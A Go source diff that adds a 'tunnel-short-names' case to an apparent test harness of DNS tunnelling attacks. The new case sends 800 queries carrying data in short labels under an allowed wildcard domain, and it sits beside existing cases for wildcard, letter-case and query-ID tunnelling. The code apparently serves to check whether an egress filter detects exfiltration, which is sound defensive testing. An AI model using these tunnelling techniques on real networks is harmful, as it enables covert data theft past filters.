@@ -1,6 +1,7 @@
 package attack
 
 import (
+	"fmt"
 	"strings"
 
 	"golang.org/x/net/dns/dnsmessage"
@@ -176,6 +177,14 @@ func tunnelAttacks() []Attack {
 		return last
 	})
 	wildcard.Leak, wildcard.Least = asked("wild.test"), 101
+	short := one("tunnel-short-names", "800 names of 30 bytes of data below an allowed wildcard; the first 500 may pass", "", func(a *Agent) error {
+		var last error
+		for i := range 800 {
+			_, last = exchange("udp", system, patience, pack(query(fmt.Sprintf("%030d.brief.test", i), typeA)))
+		}
+		return last
+	})
+	short.Leak, short.Least = asked("brief.test"), 501
 	letters := one("tunnel-letter-case", "data in the upper and lower case of an allowed name", "", func(*Agent) error {
 		var last error
 		for _, name := range caseTunnel {
@@ -203,7 +212,7 @@ func tunnelAttacks() []Attack {
 	})
 	ids.Leak = func(e Event) bool { return e.Kind == QuestionEvent && e.ID == 0xbeef }
 	ids.Least = 2
-	return append(list, wildcard, letters, ids)
+	return append(list, wildcard, short, letters, ids)
 }
 
 var (
